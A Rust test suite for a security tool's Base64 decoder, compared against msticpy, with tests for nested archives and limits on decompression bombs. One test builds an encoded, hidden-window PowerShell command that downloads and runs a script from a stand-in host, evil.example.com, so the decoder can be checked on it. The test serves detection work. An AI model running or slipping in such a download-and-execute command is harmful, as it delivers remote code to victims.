//! %b64's decoder on msticpy's own test files and on payloads built here: nesting,
//! archives, PowerShell, and the budgets that stop decompression bombs.

use crate::helpers::*;

use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use huntbook::b64::{Limits, decode};

fn data(path: &str) -> String {
    std::fs::read_to_string(shared(&format!("msticpy/b64/{path}"))).unwrap()
}

/// What msticpy 3.0.2's `base64unpack.unpack` gives for the same files (run in a throwaway
/// venv: reference, file name, type, encoding, md5). Our fixes, documented in src/b64: the
/// `.gz` member inside the tar and zip is opened (msticpy shows the gzip bytes), and the
/// UTF-16LE text with a byte-order mark is text (msticpy: binary).
const MSTICPY_BASE64MSG: &[(&str, &str, &str, &str)] = &[
    ("dllenc.txt", "tar", "utf-8", "9fd687fb66a85f89cc413728a179fb0d"),
    ("txtenc.txt", "tar", "utf-8", "87adcc213a88d165d4da4ad89827c438"),
    ("txtenc.txt.gz", "tar", "binary", "709ca834c405231a89d0c7c9d732fc98"),
    ("dllenc.txt", "zip", "utf-8", "9fd687fb66a85f89cc413728a179fb0d"),
    ("txtenc.txt", "zip", "utf-8", "87adcc213a88d165d4da4ad89827c438"),
    ("txtenc.txt.gz", "zip", "binary", "709ca834c405231a89d0c7c9d732fc98"),
    ("unknown", "None", "binary", "69fbfeacd07be73e29b7786f663aba07"),
    ("unknown", "None", "binary", "3414109cd3c337be290997995549fa96"),
];

#[test]
fn msticpy_nested_message_gives_msticpys_records_with_two_fixes() {
    let out = decode(&data("base64msg.txt"), false, Limits::default());
    let got: Vec<_> = out
        .fragments
        .iter()
        .map(|f| (f.reference.as_str(), f.file_name.as_str(), f.encoding, f.md5.as_str()))
        .collect();
    assert_eq!(got.len(), MSTICPY_BASE64MSG.len(), "{got:#?}");
    for (ours, theirs) in got.iter().zip(MSTICPY_BASE64MSG) {
        let (name, container, encoding, md5) = *theirs;
        match name {
            "txtenc.txt.gz" => {
                // Opened: the gzip held txtenc.txt again.
                assert_eq!(ours.1, "[gz] Filename: txtenc.txt.gz/gzip_file", "{ours:?}");
                assert_eq!(ours.2, "utf-8");
                assert_eq!(ours.3, "87adcc213a88d165d4da4ad89827c438", "same bytes as txtenc.txt");
            }
            "unknown" if md5 == "3414109cd3c337be290997995549fa96" => {
                assert_eq!(ours.2, "utf-16", "BOM-led UTF-16LE is text: {ours:?}");
                assert_eq!(ours.3, md5);
            }
            "unknown" => {
                assert_eq!(ours.1, "[None]");
                assert_eq!((ours.2, ours.3), (encoding, md5));
            }
            _ => {
                assert_eq!(ours.1, format!("[{container}] Filename: {name}"));
                assert_eq!((ours.2, ours.3), (encoding, md5));
            }
        }
    }
    let refs: Vec<_> = got.iter().map(|g| g.0).collect();
    assert_eq!(
        refs,
        ["1.1.1", "1.1.2", "1.1.3", "1.2.1", "1.2.2", "1.2.3", "2.1", "2.2"]
    );
    let text = out.fragments.iter().find(|f| f.encoding == "utf-16").unwrap();
    assert_eq!(text.decoded, "text\r\nfile\r\n");
    assert!(out.full.contains("text\r\nfile"), "decoded in place");
    assert!(out.warnings.is_empty(), "{:?}", out.warnings);
}

#[test]
fn base64_zip_is_unpacked_as_msticpy_does() {
    let out = decode(&data("b64text_inzip.txt"), false, Limits::default());
    let got: Vec<_> = out
        .fragments
        .iter()
        .map(|f| (f.reference.as_str(), f.file_name.as_str(), f.md5.as_str()))
        .collect();
    // msticpy: txtenc.txt from the zip (md5 87adcc…), then the UTF-16 text inside it (3414…).
    assert_eq!(
        got,
        [
            ("1.1", "[zip] Filename: txtenc.txt", "87adcc213a88d165d4da4ad89827c438"),
            ("2.1", "[None]", "3414109cd3c337be290997995549fa96"),
        ]
    );
}

#[test]
fn powershell_encoded_command_is_utf16_without_asking() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let line = format!("powershell.exe -nop -w hidden -enc {}", STANDARD.encode(utf16));
    let out = decode(&line, false, Limits::default());
    assert_eq!(out.fragments.len(), 1);
    assert_eq!(out.fragments[0].encoding, "utf-16");
    assert_eq!(out.fragments[0].decoded, script);
    assert!(
        out.full.contains("DownloadString('http://evil.example.com/a.ps1')"),
        "{:?}",
        out.full
    );
}

#[test]
fn hashes_are_not_base64() {
    let out = decode(
        "sha256 01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b",
        false,
        Limits::default(),
    );
    assert!(out.fragments.is_empty());
}

#[test]
fn nesting_deeper_than_the_limit_is_reported() {
    let mut text = "the end of the chain, plain text at last".to_string();
    for _ in 0..6 {
        text = STANDARD.encode(text);
    }
    let limits = Limits {
        max_depth: 3,
        ..Limits::default()
    };
    let out = decode(&text, false, limits);
    assert_eq!(out.fragments.len(), 3);
    assert!(
        out.warnings.iter().any(|w| w.contains("depth limit of 3")),
        "{:?}",
        out.warnings
    );
    let full = decode(&text, false, Limits::default());
    assert!(full.full.contains("the end of the chain"), "{:?}", full.full);
}

#[test]
fn a_gzip_bomb_is_cut_with_a_warning() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&vec![b'A'; 50 << 20]).unwrap();
    let bomb = STANDARD.encode(gz.finish().unwrap());
    let limits = Limits {
        max_item_bytes: 1 << 20,
        ..Limits::default()
    };
    let out = decode(&bomb, false, limits);
    assert!(
        out.warnings.iter().any(|w| w.contains("cut at 1048576 bytes")),
        "{:?}",
        out.warnings
    );
    assert!(out.fragments.iter().all(|f| f.decoded.len() <= 3 << 20));
}

/// The sample process frames: every fragment msticpy decodes to text, we decode to the same
/// bytes in the same row (recorded by tests/tools/msticpy_expected.py). msticpy's binary
/// fragments are mostly hex hashes and GUIDs taken for Base64; we leave hex alone, so we
/// report fewer binary fragments, never more.
#[test]
fn sample_process_frames_decode_as_msticpy_does() {
    let expected = expected_json("msticpy_b64.json");
    for frame in expected["frames"].as_array().unwrap() {
        let file = frame["file"].as_str().unwrap();
        let column = frame["column"].as_str().unwrap();
        let path = shared(&format!("msticpy/process/{file}"));
        let df = huntbook::load::read_file(&path, None).unwrap().value;
        assert_eq!(df.height() as u64, frame["rows"].as_u64().unwrap(), "{file}");
        let out = huntbook::b64::decode_frame(&df, column, false, Limits::default()).unwrap();
        let rows: Vec<(u64, String, String, String)> = {
            let d = &out.value;
            let idx = d.column("SourceIndex").unwrap().u64().unwrap().clone();
            let text = |name: &str| d.column(name).unwrap().str().unwrap().clone();
            let (md5, enc, decoded) = (text("MD5"), text("Encoding"), text("DecodedString"));
            (0..d.height())
                .map(|i| {
                    (
                        idx.get(i).unwrap(),
                        md5.get(i).unwrap().to_string(),
                        enc.get(i).unwrap().to_string(),
                        decoded.get(i).unwrap().to_string(),
                    )
                })
                .collect()
        };
        let text = frame["text_fragments"].as_array().unwrap();
        assert!(!text.is_empty(), "{file}: the recording has text fragments to compare");
        for t in text {
            let want = (
                t["src_index"].as_u64().unwrap(),
                t["md5"].as_str().unwrap(),
                t["encoding"].as_str().unwrap(),
                t["decoded"].as_str().unwrap(),
            );
            assert!(
                rows.iter()
                    .any(|r| (r.0, r.1.as_str(), r.2.as_str(), r.3.as_str()) == want),
                "{file}: msticpy decoded row {} to {:?}; we did not",
                want.0,
                t["decoded"]
            );
        }
        let binary = rows.iter().filter(|r| r.2 == "binary").count() as u64;
        assert!(
            binary <= frame["binary_fragments"].as_u64().unwrap(),
            "{file}: {binary}"
        );
        println!(
            "{file}: {} fragments ({binary} binary); msticpy {} ({} binary)",
            rows.len(),
            frame["fragments"],
            frame["binary_fragments"]
        );
    }
}

/// 132 KB of distinct Base64 runs in one text made thousands of fragments, each carrying a
/// copy of the whole decoded text (3.1 GB). The copies are now bounded and said so.
#[test]
fn thousands_of_distinct_runs_do_not_copy_the_text_per_fragment() {
    let runs: Vec<String> = (0..3000)
        .map(|i| STANDARD.encode(format!("distinct payload number {i:06} of many")))
        .collect();
    let text = runs.join(" ");
    assert!(text.len() > 130_000);
    let limits = Limits {
        max_total_bytes: 4 << 20,
        ..Limits::default()
    };
    let out = huntbook::b64::decode_text(&text, false, limits);
    assert_eq!(out.value.height(), 3000);
    let full = out.value.column("FullDecodedString").unwrap().str().unwrap().clone();
    let copied: usize = full.iter().flatten().map(str::len).sum();
    assert!(copied <= (4 << 20) + 400_000, "{copied} bytes of FullDecodedString");
    assert!(
        full.get(0)
            .is_some_and(|f| f.contains("distinct payload number 000000"))
    );
    assert!(
        out.warnings.iter().any(|w| w.contains("FullDecodedString is empty on")),
        "{:?}",
        out.warnings
    );
}

/// One budget per call: forty rows of the same bzip2 bomb kept 40 × 67 MB before, as the
/// budget was per row. Now the rows share it and the rest is left encoded, with a warning.
#[test]
fn rows_of_a_frame_share_one_output_budget() {
    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    bz.write_all(&vec![0u8; 8 << 20]).unwrap();
    let bomb = STANDARD.encode(bz.finish().unwrap());
    assert!(bomb.len() < 2000, "{} characters", bomb.len());
    let df = polars::prelude::df!("CommandLine" => vec![format!("cmd /c echo {bomb}"); 40]).unwrap();
    let limits = Limits {
        max_total_bytes: 16 << 20,
        ..Limits::default()
    };
    let out = huntbook::b64::decode_frame(&df, "CommandLine", false, limits).unwrap();
    let decoded = out.value.column("DecodedString").unwrap().str().unwrap().clone();
    let shown: usize = decoded.iter().flatten().map(str::len).sum();
    // One fragment per thread may pass the budget before it is charged.
    assert!(
        shown <= (16 << 20) + 2 * (3 * (8 << 20)),
        "{shown} bytes of DecodedString"
    );
    assert!(out.value.height() < 40, "{} rows decoded", out.value.height());
    assert!(
        out.warnings
            .iter()
            .any(|w| w.contains("output budget of 16777216 bytes is spent")),
        "{:?}",
        out.warnings
    );
}
